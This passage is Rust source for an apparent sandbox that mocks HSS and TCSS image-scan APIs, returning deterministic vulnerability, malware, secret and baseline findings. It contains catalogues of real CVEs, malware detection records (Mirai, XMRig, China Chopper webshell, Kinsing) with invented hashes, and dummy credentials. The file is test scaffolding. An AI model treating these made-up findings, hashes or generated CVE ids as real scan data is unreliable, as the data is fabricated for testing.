//! What the sandbox's scans found: each scanned image's vulnerabilities,
//! drawn from one catalogue of real CVEs so that the same CVE affects many
//! images, and exactly as many as the image's counts say (an HSS image
//! with `vul_num` 19 lists 19; a TCSS image lists its critical, high,
//! medium and low counts). The same goes for the other findings: malicious
//! files (`malicious_file_num`, `VirusCnt`), baseline checks
//! (`unsafe_setting_num`), risky build settings (`RiskCnt`) and sensitive
//! information (HSS counts none: a few per scanned image, see
//! [`sensitive_count`]). Every list depends only on the image, so every
//! look at it agrees.

use super::SandboxState;
use super::hss_api::{invalid, inventory, ok_json, query};
use super::inventory::{Inventory, tencent_time};
use axum::extract::{Path, Request, State};
use axum::response::Response;
use scanport_wire::findings::{ImageFindingsRequest, Severity};
use scanport_wire::hss::{
    ImageMalware, ImageMalwareList, ImageMalwareRequest, ImageRiskConfig, ImageRiskConfigList,
    ImageRiskConfigsRequest, ImageSensitiveInfo, ImageSensitiveList, ImageSensitiveRequest,
    ImageVulnerabilities, ImageVulnerabilitiesRequest, ImageVulnerability,
};
use scanport_wire::tcss::{ComponentInfo, ImageRisk, ImageVirus, ImageVul, RegistryImage};
use serde::de::DeserializeOwned;
use std::sync::Arc;

/// A catalogued vulnerability: id, package, affected version, fixed
/// version (empty: no fix yet), severity, CVSS, title.
struct Cve {
    id: &'static str,
    package: &'static str,
    version: &'static str,
    fixed: &'static str,
    severity: Severity,
    cvss: &'static str,
    title: &'static str,
}

const fn cve(
    id: &'static str,
    package: &'static str,
    version: &'static str,
    fixed: &'static str,
    severity: Severity,
    cvss: &'static str,
    title: &'static str,
) -> Cve {
    Cve {
        id,
        package,
        version,
        fixed,
        severity,
        cvss,
        title,
    }
}

use Severity::{Critical, High, Low, Medium};

const CATALOGUE: &[Cve] = &[
    cve(
        "CVE-2024-3094",
        "xz-utils",
        "5.6.0-0.2",
        "5.6.1+really5.4.5-1",
        Critical,
        "10.0",
        "Backdoor in the xz/liblzma release tarballs",
    ),
    cve(
        "CVE-2023-38545",
        "curl",
        "7.88.1-10",
        "7.88.1-10+deb12u4",
        Critical,
        "9.8",
        "SOCKS5 heap buffer overflow in curl",
    ),
    cve(
        "CVE-2024-6387",
        "openssh-server",
        "1:9.2p1-2",
        "1:9.2p1-2+deb12u3",
        Critical,
        "8.1",
        "regreSSHion: signal handler race in sshd",
    ),
    cve(
        "CVE-2023-4911",
        "libc6",
        "2.36-9",
        "2.36-9+deb12u3",
        Critical,
        "7.8",
        "Looney Tunables: buffer overflow in ld.so",
    ),
    cve(
        "CVE-2022-37434",
        "zlib1g",
        "1:1.2.11.dfsg-2",
        "1:1.2.11.dfsg-2+deb11u2",
        Critical,
        "9.8",
        "Heap overflow in zlib inflateGetHeader",
    ),
    cve(
        "CVE-2021-44228",
        "log4j-core",
        "2.14.1",
        "2.15.0",
        Critical,
        "10.0",
        "Log4Shell: remote code execution through JNDI lookups",
    ),
    cve(
        "CVE-2023-44487",
        "nghttp2",
        "1.52.0-1",
        "1.52.0-1+deb12u1",
        High,
        "7.5",
        "HTTP/2 rapid reset denial of service",
    ),
    cve(
        "CVE-2024-2961",
        "libc6",
        "2.36-9",
        "2.36-9+deb12u7",
        High,
        "7.3",
        "Out-of-bounds write in iconv ISO-2022-CN-EXT",
    ),
    cve(
        "CVE-2023-0286",
        "openssl",
        "3.0.7-1",
        "3.0.8-1",
        High,
        "7.4",
        "X.400 address type confusion in X.509 GeneralName",
    ),
    cve(
        "CVE-2022-42898",
        "krb5",
        "1.20-1",
        "1.20.1-1",
        High,
        "8.8",
        "Integer overflows in PAC parsing",
    ),
    cve(
        "CVE-2023-39325",
        "golang.org/x/net",
        "0.15.0",
        "0.17.0",
        High,
        "7.5",
        "HTTP/2 stream reset can exhaust the server",
    ),
    cve(
        "CVE-2022-3602",
        "openssl",
        "3.0.5-4",
        "3.0.7-1",
        High,
        "7.5",
        "X.509 email address 4-byte buffer overflow",
    ),
    cve(
        "CVE-2024-24790",
        "stdlib (go)",
        "1.21.9",
        "1.21.11",
        High,
        "9.8",
        "net/netip misclassifies IPv4-mapped IPv6 addresses",
    ),
    cve(
        "CVE-2023-5678",
        "openssl",
        "3.0.11-1",
        "",
        Medium,
        "5.3",
        "Excessive time spent in DH key generation",
    ),
    cve(
        "CVE-2023-2650",
        "openssl",
        "3.0.8-1",
        "3.0.9-1",
        Medium,
        "6.5",
        "Slow processing of ASN.1 object identifiers",
    ),
    cve(
        "CVE-2024-0727",
        "openssl",
        "3.0.11-1",
        "3.0.13-1",
        Medium,
        "5.5",
        "NULL dereference in PKCS12 parsing",
    ),
    cve(
        "CVE-2023-29491",
        "ncurses-base",
        "6.4-4",
        "6.4-4+deb12u1",
        Medium,
        "7.8",
        "Memory corruption through malformed terminfo",
    ),
    cve(
        "CVE-2022-4899",
        "libzstd1",
        "1.5.4+dfsg2-5",
        "",
        Medium,
        "7.5",
        "zstd buffer overrun with an empty string",
    ),
    cve(
        "CVE-2023-45853",
        "zlib1g",
        "1:1.2.13.dfsg-1",
        "",
        Medium,
        "9.8",
        "Integer overflow in MiniZip zipOpenNewFileInZip4_64",
    ),
    cve(
        "CVE-2024-28182",
        "nghttp2",
        "1.52.0-1",
        "1.52.0-1+deb12u2",
        Medium,
        "5.3",
        "CONTINUATION frames read without limit",
    ),
    cve(
        "CVE-2023-7104",
        "sqlite3",
        "3.40.1-2",
        "3.40.1-2+deb12u1",
        Medium,
        "7.3",
        "Heap overflow in the sessions extension",
    ),
    cve(
        "CVE-2011-3374",
        "apt",
        "2.6.1",
        "",
        Low,
        "3.7",
        "apt does not verify repository key revocation",
    ),
    cve(
        "CVE-2022-0563",
        "util-linux",
        "2.38.1-5",
        "",
        Low,
        "5.5",
        "chfn and chsh read files through readline",
    ),
    cve(
        "CVE-2017-18018",
        "coreutils",
        "9.1-1",
        "",
        Low,
        "4.7",
        "chown -R -L race condition",
    ),
    cve(
        "CVE-2023-31484",
        "perl-base",
        "5.36.0-7",
        "5.36.0-7+deb12u1",
        Low,
        "8.1",
        "CPAN.pm does not verify TLS certificates",
    ),
    cve(
        "CVE-2022-27943",
        "libstdc++6",
        "12.2.0-14",
        "",
        Low,
        "5.5",
        "Stack exhaustion in the demangler",
    ),
    cve(
        "CVE-2023-4641",
        "passwd",
        "1:4.13+dfsg1-1",
        "",
        Low,
        "4.7",
        "gpasswd leaves a password in memory",
    ),
    cve(
        "CVE-2019-1010022",
        "libc6",
        "2.36-9",
        "",
        Low,
        "9.8",
        "Stack guard protection bypass",
    ),
    cve(
        "CVE-2013-4392",
        "systemd",
        "252.17-1",
        "",
        Low,
        "3.3",
        "Symlink attack on file permissions",
    ),
    cve(
        "CVE-2023-50495",
        "ncurses-base",
        "6.4-4",
        "",
        Low,
        "6.5",
        "Segmentation fault in _nc_wrap_entry",
    ),
];

/// One finding of an image: a catalogued CVE, or (past the catalogue's
/// entries of that severity) a made-up one of the same severity.
pub(super) struct Finding {
    pub(super) id: String,
    pub(super) package: &'static str,
    pub(super) version: &'static str,
    fixed: &'static str,
    pub(super) severity: Severity,
    pub(super) cvss: &'static str,
    pub(super) title: String,
}

/// `count` findings of `severity` for the image with `seed`: the
/// catalogue's entries of that severity, starting at a place the seed
/// picks, then made-up ids.
fn findings_of(seed: u64, severity: Severity, count: usize) -> Vec<Finding> {
    let pool: Vec<&Cve> = CATALOGUE
        .iter()
        .filter(|c| c.severity == severity)
        .collect();
    let start = usize::try_from(seed).unwrap_or(0) % pool.len().max(1);
    (0..count)
        .map(|i| {
            match pool
                .get((start + i) % pool.len().max(1))
                .filter(|_| i < pool.len())
            {
                Some(c) => Finding {
                    id: c.id.to_owned(),
                    package: c.package,
                    version: c.version,
                    fixed: c.fixed,
                    severity,
                    cvss: c.cvss,
                    title: c.title.to_owned(),
                },
                None => Finding {
                    // Unique per severity, image and place: 1 + severity, the
                    // image's seed, the place.
                    id: format!("CVE-2025-{}{:03}{i:03}", severity as u8 + 1, seed % 1000),
                    package: "libexample1",
                    version: "1.0.0-1",
                    fixed: if i % 2 == 0 { "1.0.0-2" } else { "" },
                    severity,
                    cvss: "5.0",
                    title: format!("{} issue {i} in libexample1", severity.as_str()),
                },
            }
        })
        .collect()
}

/// HSS has no "critical": its findings of an image with `total` are split
/// high / medium / low as the catalogue's share of each, critical CVEs
/// counted as high (`immediate_repair`).
fn hss_findings(seed: u64, total: usize) -> Vec<Finding> {
    let high = total / 3;
    let medium = total / 3;
    let mut all = findings_of(seed, Critical, high / 2);
    all.extend(findings_of(seed, High, high - high / 2));
    all.extend(findings_of(seed, Medium, medium));
    all.extend(findings_of(seed, Low, total - high - medium));
    all
}

/// Whether a package is an application's library (an ecosystem's name:
/// `golang.org/x/net`, a Java or Go library), not the distribution's: HSS
/// lists those as `app_vul`, TCSS as web (application) vulnerabilities.
pub(super) fn is_application(package: &str) -> bool {
    const LIBRARIES: [&str; 2] = ["log4j-core", "stdlib (go)"];
    package.contains('.') || LIBRARIES.contains(&package)
}

fn repair_necessity(severity: Severity) -> &'static str {
    match severity {
        Critical | High => "immediate_repair",
        Medium => "delay_repair",
        _ => "not_needed_repair",
    }
}

fn seed_of(text: &str) -> u64 {
    text.bytes()
        .fold(7u64, |h, b| h.wrapping_mul(31).wrapping_add(u64::from(b)))
}

/// Every finding of the HSS image `image_id` that counts `total`, as
/// `ListImageVulnerabilities` lists it, beside the finding it shows (whose
/// severity and CVSS the list has no member for).
pub(super) fn hss_image_findings(
    image_id: &str,
    total: usize,
) -> Vec<(Finding, ImageVulnerability)> {
    let seed = seed_of(image_id);
    hss_findings(seed, total)
        .into_iter()
        .enumerate()
        .map(|(n, f)| {
            let listed = ImageVulnerability {
                vul_id: Some(f.id.clone()),
                repair_necessity: Some(repair_necessity(f.severity).to_owned()),
                description: Some(f.title.clone()),
                position: Some(format!("sha256:{:012x}", seed.wrapping_add(n as u64 % 3))),
                app_name: Some(f.package.to_owned()),
                app_path: is_application(f.package).then(|| format!("/app/{}", f.package)),
                version: Some(f.version.to_owned()),
                solution: Some(if f.fixed.is_empty() {
                    "No fixed version has been released yet; watch the vendor's advisory."
                        .to_owned()
                } else {
                    format!("Upgrade {} to {} or later.", f.package, f.fixed)
                }),
                url: Some(format!("https://nvd.nist.gov/vuln/detail/{}", f.id)),
            };
            (f, listed)
        })
        .collect()
}

/// `GET /v5/{project_id}/image/{image_id}/vulnerabilities`: the image's
/// findings, filtered and paged as the service does. An image the account
/// does not have has none.
pub(super) async fn hss_image_vulnerabilities(
    State(state): State<Arc<SandboxState>>,
    Path((_project, image_id)): Path<(String, String)>,
    request: Request,
) -> Response {
    let mut req: ImageVulnerabilitiesRequest = match query_request(
        &request,
        &[("image_id", &image_id)],
        ImageVulnerabilitiesRequest::validate,
    ) {
        Ok(req) => req,
        Err(rejection) => return rejection,
    };
    // SWR and third-party registry images alike: the count their rows show.
    let total = hss_image(&inventory(&state), &image_id).map_or(0, |i| i.vulnerabilities);
    let all: Vec<ImageVulnerability> = hss_image_findings(&image_id, total)
        .into_iter()
        .map(|(_, listed)| listed)
        .collect();
    let wanted = ImageVulnerabilitiesRequest {
        offset: None,
        limit: None,
        ..req.clone()
    };
    let matching: Vec<ImageVulnerability> = all.into_iter().filter(|v| wanted.matches(v)).collect();
    let offset = usize::try_from(req.offset.take().unwrap_or(0)).unwrap_or(0);
    let limit = usize::try_from(req.limit.take().unwrap_or(10)).unwrap_or(10);
    ok_json(&ImageVulnerabilities {
        total_num: i64::try_from(matching.len()).unwrap_or(0),
        data_list: matching.into_iter().skip(offset).take(limit).collect(),
    })
}

/// A CVE id's digits as one number (`CVE-2024-3094` is 20243094): the
/// year always has four digits, so unlike a hash no two ids share one.
pub(super) fn cve_number(cve: &str) -> i64 {
    cve.chars()
        .filter(char::is_ascii_digit)
        .collect::<String>()
        .parse()
        .unwrap_or(0)
}

/// TCSS's `PocID` of a CVE: the same in every image that has it.
pub(super) fn poc_id(cve: &str) -> String {
    format!("pcmgr-{}", cve_number(cve))
}

/// Every vulnerability of a TCSS registry image, as many of each level as
/// its counts say.
pub(super) fn tcss_image_vulnerabilities(image: &RegistryImage) -> Vec<ImageVul> {
    let seed = u64::try_from(image.id).unwrap_or(0);
    let count = |n: Option<i64>| usize::try_from(n.unwrap_or(0)).unwrap_or(0);
    [
        (Critical, "CRITICAL", image.critical_level_vul_cnt),
        (High, "HIGH", image.high_level_vul_cnt),
        (Medium, "MEDIUM", image.medium_level_vul_cnt),
        (Low, "LOW", image.low_level_vul_cnt),
    ]
    .into_iter()
    .flat_map(|(severity, level, n)| {
        findings_of(seed, severity, count(n))
            .into_iter()
            .map(move |f| (level, f))
    })
    .map(|(level, f)| {
        let (path, category) = if is_application(f.package) {
            (format!("/app/{}", f.package), "web")
        } else {
            (format!("/var/lib/dpkg/status#{}", f.package), "system")
        };
        (level, f, path, category)
    })
    .map(|(level, f, path, category)| ImageVul {
        cve_id: Some(f.id.clone()),
        poc_id: Some(poc_id(&f.id)),
        name: Some(f.title.clone()),
        components: vec![ComponentInfo {
            component: Some(f.package.to_owned()),
            version: Some(f.version.to_owned()),
            fixed_version: (!f.fixed.is_empty()).then(|| f.fixed.to_owned()),
            path: Some(path),
            r#type: Some(category.to_owned()),
            name: Some(f.package.to_owned()),
        }],
        category: Some(category.to_owned()),
        level: Some(level.to_owned()),
        des: Some(f.title.clone()),
        official_solution: Some(if f.fixed.is_empty() {
            "No fixed version yet.".to_owned()
        } else {
            format!("Upgrade {} to {}.", f.package, f.fixed)
        }),
        reference: Some(format!("https://nvd.nist.gov/vuln/detail/{}", f.id)),
        cvss_score: Some(f.cvss.to_owned()),
        fixed_versions: (!f.fixed.is_empty()).then(|| f.fixed.to_owned()),
        tag: if f.fixed.is_empty() {
            Vec::new()
        } else {
            vec!["CanBeFixed".to_owned()]
        },
        component: Some(f.package.to_owned()),
        version: Some(f.version.to_owned()),
    })
    .collect()
}

/// A request read from the query as the service reads it (numbers from
/// text, `label_list` split at its commas, as the SDK joins it) and the
/// path's parameters, then checked against the documented limits: either
/// failure is `HSS.0001`.
pub(super) fn query_request<T: DeserializeOwned>(
    request: &Request,
    path: &[(&str, &str)],
    validate: impl Fn(&T) -> Result<(), scanport_wire::FieldError>,
) -> Result<T, Response> {
    let pairs: Vec<(String, String)> = query(request)?;
    let mut map = serde_json::Map::new();
    for (name, value) in pairs {
        let value = match name.as_str() {
            "offset" | "limit" => value
                .parse::<i64>()
                .map_or_else(|_| value.into(), Into::into),
            "label_list" => value.split(',').collect::<Vec<_>>().into(),
            _ => value.into(),
        };
        map.insert(name, value);
    }
    for (name, value) in path {
        map.insert((*name).to_owned(), (*value).into());
    }
    let req: T = serde_json::from_value(map.into()).map_err(invalid)?;
    validate(&req).map_err(invalid)?;
    Ok(req)
}

/// `offset`/`limit` applied as the list calls do (limit 10 by default).
pub(super) fn window<T>(items: Vec<T>, offset: Option<i64>, limit: Option<i64>) -> Vec<T> {
    let offset = usize::try_from(offset.unwrap_or(0)).unwrap_or(0);
    let limit = usize::try_from(limit.unwrap_or(10)).unwrap_or(10);
    items.into_iter().skip(offset).take(limit).collect()
}

/// The items `req`'s own filters keep, their number and `req`'s page of
/// them.
fn filtered_page<R: ImageFindingsRequest>(req: &R, all: Vec<R::Item>) -> (i64, Vec<R::Item>) {
    let matching: Vec<R::Item> = all.into_iter().filter(|i| req.matches(i)).collect();
    let (offset, limit) = req.window();
    let total = i64::try_from(matching.len()).unwrap_or(i64::MAX);
    (total, window(matching, offset, limit))
}

/// A well-mixed 64-bit value from `x` (SplitMix64's finaliser), for ids
/// and hashes that look random but are the same on every look.
fn mix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// What one HSS image's scan counted, from the image lists (SWR's, then
/// the third-party registries').
#[derive(Debug, Clone, Default)]
pub(super) struct HssImage {
    image_id: String,
    image_name: String,
    /// The last scan succeeded.
    scanned: bool,
    pub(super) vulnerabilities: usize,
    malicious: usize,
    unsafe_settings: usize,
    latest_scan_time: Option<i64>,
}

pub(super) fn hss_image(inv: &Inventory, image_id: &str) -> Option<HssImage> {
    let n = |v: Option<i64>| usize::try_from(v.unwrap_or(0)).unwrap_or(0);
    let swr = inv
        .images
        .iter()
        .find(|i| i.image_id.as_deref() == Some(image_id))
        .map(|i| HssImage {
            image_id: image_id.to_owned(),
            image_name: i.image_name.clone(),
            scanned: i.scan_status.as_deref() == Some("success"),
            vulnerabilities: n(i.vul_num),
            malicious: n(i.malicious_file_num),
            unsafe_settings: n(i.unsafe_setting_num),
            latest_scan_time: i.latest_scan_time,
        });
    swr.or_else(|| {
        inv.registry_images
            .iter()
            .find(|i| i.image_id.as_deref() == Some(image_id))
            .map(|i| HssImage {
                image_id: image_id.to_owned(),
                image_name: i.image_name.clone(),
                scanned: i.scan_status.as_deref() == Some("success"),
                vulnerabilities: n(i.vul_num),
                malicious: n(i.malicious_file_num),
                unsafe_settings: n(i.unsafe_setting_num),
                latest_scan_time: i.latest_scan_time,
            })
    })
}

/// A catalogued malicious file, as both clouds report it. Every size is a
/// real-world size of such a file and fits HSS's documented `size` range
/// (0..65535): droppers, webshells and small static bots.
struct Malware {
    /// The detection name: TCSS's `VirusName`; HSS folds it into
    /// `description`.
    name: &'static str,
    path: &'static str,
    size: i64,
    md5: &'static str,
    /// TCSS's `RiskLevel`: "1" (low) to "4" (critical).
    level: &'static str,
    category: &'static str,
    file_type: &'static str,
    tags: &'static [&'static str],
    description: &'static str,
    /// TCSS's description: the service answers in Chinese.
    desc_zh: &'static str,
}

const MALWARE: &[Malware] = &[
    Malware {
        name: "Linux.Trojan.Mirai",
        path: "/usr/bin/dvrHelper",
        size: 58_412,
        md5: "8d5b2a0f6c9e31d47a2e0b9c5f13e6a4",
        level: "4",
        category: "Botnet",
        file_type: "ELF",
        tags: &["Mirai", "Botnet", "DDoS"],
        description: "Mirai botnet client: brute-forces Telnet on other devices with default \
                      credentials and takes part in DDoS attacks.",
        desc_zh: "Mirai僵尸网络木马，通过弱口令爆破Telnet传播，并参与DDoS攻击。",
    },
    Malware {
        name: "Linux.Miner.XMRig",
        path: "/etc/cron.hourly/.kworker.sh",
        size: 4_187,
        md5: "3f1c7e9a02b64d85c1e7a3b9d06f2c58",
        level: "3",
        category: "Miner",
        file_type: "SHELL",
        tags: &["XMRig", "CoinMiner", "Monero"],
        description: "XMRig coin miner dropper run from cron: downloads XMRig, kills rival \
                      miners and mines Monero on the host's CPU.",
        desc_zh: "XMRig挖矿木马的下载脚本，通过定时任务下载并运行XMRig门罗币挖矿程序，占用主机CPU资源。",
    },
    Malware {
        name: "Linux.Backdoor.Tsunami",
        path: "/var/tmp/.ICE-unix/kaiten",
        size: 37_904,
        md5: "c04e1b7d93a25f68e0d4c1a7b5f92e31",
        level: "4",
        category: "Backdoor",
        file_type: "ELF",
        tags: &["Tsunami", "Kaiten", "IRC"],
        description: "Tsunami (Kaiten) backdoor: takes orders over IRC to run shell commands \
                      and flood other hosts.",
        desc_zh: "Tsunami（Kaiten）后门，通过IRC接收指令，执行任意命令并发起洪水攻击。",
    },
    Malware {
        name: "PHP.Webshell.ChinaChopper",
        path: "/var/www/html/uploads/.config.php",
        size: 61,
        md5: "e7a94c03b1d85f26a0c3e9b47d12f8a6",
        level: "4",
        category: "Webshell",
        file_type: "PHP",
        tags: &["Webshell", "China Chopper"],
        description: "China Chopper PHP webshell: a one-line eval() backdoor that runs any \
                      code a POST request sends.",
        desc_zh: "中国菜刀PHP网页后门（一句话木马），可执行POST请求提交的任意代码。",
    },
    Malware {
        name: "Linux.Trojan.Kinsing",
        path: "/tmp/d.sh",
        size: 8_203,
        md5: "5b2e8f10d7c34a96b1e05d8c2a7f4e93",
        level: "3",
        category: "Trojan",
        file_type: "SHELL",
        tags: &["Kinsing", "Dropper"],
        description: "Kinsing dropper script: disables security tools, adds a cron job and \
                      fetches the kinsing malware and a miner.",
        desc_zh: "Kinsing木马下载脚本，关闭安全软件、添加定时任务，并下载kinsing木马及挖矿程序。",
    },
    Malware {
        name: "Python.HackTool.PortScanner",
        path: "/opt/tools/scan.py",
        size: 5_122,
        md5: "a18d6e3c90f27b54e3c1d0a9f68b2e75",
        level: "2",
        category: "HackTool",
        file_type: "PYTHON",
        tags: &["HackTool", "Scanner"],
        description: "Port scanner of the kind intruders leave behind to move laterally \
                      inside a cluster's network.",
        desc_zh: "端口扫描黑客工具，常被入侵者用于在集群网络内横向移动。",
    },
    Malware {
        name: "Shell.Riskware.LogCleaner",
        path: "/usr/local/bin/clean-logs.sh",
        size: 1_236,
        md5: "2c6f0a8e5d13b97c4e2a1f06b8d35c94",
        level: "1",
        category: "Riskware",
        file_type: "SHELL",
        tags: &["Riskware", "AntiForensics"],
        description: "Script that wipes /var/log and shell histories, as used to hide an \
                      intrusion.",
        desc_zh: "清除/var/log日志与命令历史的脚本，常被用于掩盖入侵痕迹。",
    },
];

/// Tencent's remedy for every virus (its own wording).
const VIRUS_SOLUTION: &str = "1.检查恶意进程及非法端口，删除可疑的启动项和定时任务；\n\
    2.隔离或者删除相关的木马文件；\n\
    3.对系统进行风险排查，并进行安全加固，详情可参考如下链接： \n\
    【Linux】https://cloud.tencent.com/document/product/296/9604";

/// `count` malicious files of the image with `seed`: the catalogue from a
/// place the seed picks; past its length the same files again, in the
/// layers of other directories (so no path repeats).
fn malware_of(seed: u64, count: usize) -> Vec<(&'static Malware, String)> {
    let start = usize::try_from(mix(seed) % MALWARE.len() as u64).unwrap_or(0);
    (0..count)
        .map(|i| {
            let m = &MALWARE[(start + i) % MALWARE.len()];
            let round = i / MALWARE.len();
            let path = if round == 0 {
                m.path.to_owned()
            } else {
                format!("/var/lib/app/layer-{round}{}", m.path)
            };
            (m, path)
        })
        .collect()
}

fn file_name(path: &str) -> String {
    path.rsplit('/').next().unwrap_or(path).to_owned()
}

/// An HSS image's malicious files: as many as `malicious_file_num`.
fn hss_malware(image: &HssImage) -> Vec<ImageMalware> {
    malware_of(seed_of(&image.image_id), image.malicious)
        .into_iter()
        .map(|(m, path)| ImageMalware {
            file_name: Some(file_name(&path)),
            file_path: Some(path),
            size: Some(m.size),
            description: Some(format!("{}: {}", m.name, m.description)),
        })
        .collect()
}

/// A catalogued secret (obviously fake values, AWS's documented examples
/// among them).
struct Secret {
    name: &'static str,
    description: &'static str,
    severity: &'static str,
    path: &'static str,
    content: &'static str,
}

const SECRETS: &[Secret] = &[
    Secret {
        name: "AWS access key ID",
        description: "An AWS access key ID in an environment file.",
        severity: "high",
        path: "/app/.env",
        content: "AKIAIOSFODNN7EXAMPLE",
    },
    Secret {
        name: "AWS secret access key",
        description: "An AWS secret access key in an environment file.",
        severity: "critical",
        path: "/app/.env",
        content: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    },
    Secret {
        name: "SSH private key",
        description: "A private key in the image: whoever pulls it can log in wherever its \
                      public key is trusted.",
        severity: "critical",
        path: "/root/.ssh/id_rsa",
        // A made-up key, split so secret scanners do not flag the sample.
        content: concat!(
            "-----BEGIN RSA PRIVATE",
            " KEY-----MIIEpAIBAAKCAQEAexampleEXAMPLEexampleKEY"
        ),
    },
    Secret {
        name: "Password in a configuration file",
        description: "A database password in clear text in a configuration file.",
        severity: "medium",
        path: "/app/config/database.yml",
        content: "password: example-Passw0rd",
    },
    Secret {
        name: "Hard-coded secret key",
        description: "A web framework's secret key hard-coded in the application's settings.",
        severity: "medium",
        path: "/app/settings.py",
        content: "SECRET_KEY = 'django-insecure-example-0123456789abcdef'",
    },
    Secret {
        name: "Email address",
        description: "An email address in a file the image ships.",
        severity: "low",
        path: "/app/package.json",
        content: "maintainer@example.com",
    },
];

/// How many pieces of sensitive information an HSS image has: the image
/// lists have no count for them, so 0 to 4 as the image id says, and none
/// until a scan succeeded.
fn sensitive_count(image: &HssImage) -> usize {
    if image.scanned {
        usize::try_from(mix(seed_of(&image.image_id)) % 5).unwrap_or(0)
    } else {
        0
    }
}

/// An HSS image's sensitive information ([`sensitive_count`] of it). The
/// fourth was reviewed and ignored (`handled`); the rest wait.
fn hss_sensitive(image: &HssImage) -> Vec<ImageSensitiveInfo> {
    let seed = seed_of(&image.image_id);
    let start = usize::try_from(mix(seed) / 5 % SECRETS.len() as u64).unwrap_or(0);
    (0..sensitive_count(image))
        .map(|i| {
            let s = &SECRETS[(start + i) % SECRETS.len()];
            let id = mix(seed.wrapping_add(i as u64));
            let handled = i == 3;
            ImageSensitiveInfo {
                sensitive_info_id: Some(format!(
                    "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
                    id >> 32,
                    (id >> 16) & 0xffff,
                    id & 0xffff,
                    (mix(id) >> 48) & 0xffff,
                    mix(id) & 0xffff_ffff_ffff
                )),
                severity: Some(s.severity.to_owned()),
                name: Some(s.name.to_owned()),
                description: Some(s.description.to_owned()),
                position: Some(format!("sha256:{:012x}", seed.wrapping_add(i as u64 % 3))),
                file_path: Some(s.path.to_owned()),
                content: Some(s.content.to_owned()),
                latest_scan_time: image.latest_scan_time,
                handle_status: Some(if handled { "handled" } else { "unhandled" }.to_owned()),
                operate_accept: Some(if handled { "ignore" } else { "do_not_ignore" }.to_owned()),
            }
        })
        .collect()
}

/// The operating-system baselines: name and how many checks each standard
/// runs (Huawei's security practice, China's graded protection).
const OS_BASELINES: [(&str, i64, i64); 4] = [
    ("CentOS 7", 37, 23),
    ("Debian 10", 29, 19),
    ("EulerOS", 41, 26),
    ("Ubuntu16", 31, 20),
];
/// The SSH baseline's checks (Huawei's security practice only).
const SSH_CHECKS: i64 = 17;

/// An HSS image's baseline results: its operating system's (as the
/// repository's name picks it) under both standards, and SSH's. Nothing
/// before a scan succeeded, unless the image list counts unsafe settings.
///
/// `unsafe_setting_num` M counts failed checks: the `failed_rule_num` of
/// all the baselines listed add up to M (spread over them in turn, never
/// more than a baseline's checks); a baseline with none failed is
/// `Security`.
fn hss_baselines(image: &HssImage) -> Vec<ImageRiskConfig> {
    if !image.scanned && image.unsafe_settings == 0 {
        return Vec::new();
    }
    let seed = seed_of(&image.image_id);
    let (os, hw_checks, cn_checks) =
        OS_BASELINES[usize::try_from(seed_of(&image.image_name) % 4).unwrap_or(0)];
    let hw_os = format!(
        "Checks {os}'s security configuration by Huawei Cloud's security practice: \
         passwords, file permissions, auditing and kernel parameters."
    );
    let cn_os = format!(
        "Checks {os} against China's graded protection (MLPS 2.0, level 3): identity, \
         access control and security auditing."
    );
    let ssh = "Checks the SSH service's configuration: root login, password \
               authentication, protocol and idle timeouts."
        .to_owned();
    let mut baselines = [
        (os, "hw_standard", hw_checks, hw_os, 0i64),
        ("SSH", "hw_standard", SSH_CHECKS, ssh, 0),
        (os, "cn_standard", cn_checks, cn_os, 0),
    ];
    let capacity: i64 = baselines.iter().map(|b| b.2).sum();
    let failed = i64::try_from(image.unsafe_settings)
        .unwrap_or(i64::MAX)
        .min(capacity);
    let mut next = usize::try_from(seed % 3).unwrap_or(0);
    for _ in 0..failed {
        while baselines[next].4 >= baselines[next].2 {
            next = (next + 1) % baselines.len();
        }
        baselines[next].4 += 1;
        next = (next + 1) % baselines.len();
    }
    baselines
        .into_iter()
        .enumerate()
        .map(
            |(n, (name, standard, checks, desc, failed))| ImageRiskConfig {
                severity: Some(
                    if failed == 0 {
                        "Security"
                    } else {
                        ["Low", "Medium", "High"][((seed % 3) as usize + n + failed as usize) % 3]
                    }
                    .to_owned(),
                ),
                check_name: Some(name.to_owned()),
                check_type: Some(name.to_owned()),
                standard: Some(standard.to_owned()),
                check_rule_num: Some(checks),
                failed_rule_num: Some(failed),
                check_type_desc: Some(desc),
            },
        )
        .collect()
}

/// `GET /v5/{project_id}/image/{image_id}/malwares`: the image's malicious
/// files, filtered by `file_name` (part of it, any case) and paged.
pub(super) async fn hss_image_malware(
    State(state): State<Arc<SandboxState>>,
    Path((_project, image_id)): Path<(String, String)>,
    request: Request,
) -> Response {
    let req: ImageMalwareRequest = match query_request(
        &request,
        &[("image_id", &image_id)],
        ImageMalwareRequest::validate,
    ) {
        Ok(req) => req,
        Err(rejection) => return rejection,
    };
    let image = hss_image(&inventory(&state), &image_id).unwrap_or_default();
    let (total_num, data_list) = filtered_page(&req, hss_malware(&image));
    ok_json(&ImageMalwareList {
        total_num,
        data_list,
    })
}

/// `GET /v5/{project_id}/image/{image_id}/sensitive`: the image's
/// sensitive information, filtered (`handle_status`, `severity`, part of
/// `file_path`) and paged.
pub(super) async fn hss_image_sensitive(
    State(state): State<Arc<SandboxState>>,
    Path((_project, image_id)): Path<(String, String)>,
    request: Request,
) -> Response {
    let req: ImageSensitiveRequest = match query_request(
        &request,
        &[("image_id", &image_id)],
        ImageSensitiveRequest::validate,
    ) {
        Ok(req) => req,
        Err(rejection) => return rejection,
    };
    let image = hss_image(&inventory(&state), &image_id).unwrap_or_default();
    let all: Vec<ImageSensitiveInfo> = hss_sensitive(&image)
        .into_iter()
        .filter(|s| {
            req.handle_status
                .is_none_or(|h| s.handle_status.as_deref() == Some(h.as_str()))
        })
        .collect();
    let (total_num, data_list) = filtered_page(&req, all);
    ok_json(&ImageSensitiveList {
        total_num,
        data_list,
    })
}

/// `GET /v5/{project_id}/image/baseline/risk-configs`: the baseline
/// results of the image `image_id` names, filtered (`standard`,
/// `severity`, part of `check_name`) and paged.
pub(super) async fn hss_image_risk_configs(
    State(state): State<Arc<SandboxState>>,
    request: Request,
) -> Response {
    let req: ImageRiskConfigsRequest =
        match query_request(&request, &[], ImageRiskConfigsRequest::validate) {
            Ok(req) => req,
            Err(rejection) => return rejection,
        };
